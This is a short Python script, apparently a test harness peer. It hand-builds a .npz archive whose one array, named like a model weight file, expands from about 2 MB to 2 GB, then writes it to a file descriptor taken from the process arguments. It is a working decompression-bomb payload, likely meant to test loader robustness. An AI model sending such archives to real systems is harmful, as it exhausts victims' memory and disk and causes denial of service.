"""Send a 2 MB deflated .npz whose one array expands to 2 GB."""

import os
import struct
import zipfile
import zlib

count = 2**28  # float64s: 2 GiB
header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({count},), }}".encode()
header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
chunk = 1 << 24
squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
head = squeezer.compress(npy) + squeezer.flush(zlib.Z_SYNC_FLUSH)
head += squeezer.compress(b"\0" * chunk) + squeezer.flush(zlib.Z_SYNC_FLUSH)
zeros = squeezer.compress(b"\0" * chunk) + squeezer.flush(zlib.Z_SYNC_FLUSH)  # valid after any run of zeros
body = head + zeros * (count * 8 // chunk - 1) + squeezer.flush()
size = len(npy) + count * 8
name = b"0/0/synapse_0.npy"
local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, zipfile.ZIP_DEFLATED, 0, 0, 0, len(body), size, len(name), 0)
central = struct.pack(
    "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, zipfile.ZIP_DEFLATED, 0, 0, 0, len(body), size, len(name), 0, 0, 0, 0, 0, 0
)
directory = central + name
end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(local) + len(name) + len(body), 0)
argv = open("/proc/self/cmdline", "rb").read().split(b"\0")
channel = int(argv[5])
data = local + name + body + directory + end
while data:
    data = data[os.write(channel, data) :]
os._exit(0)
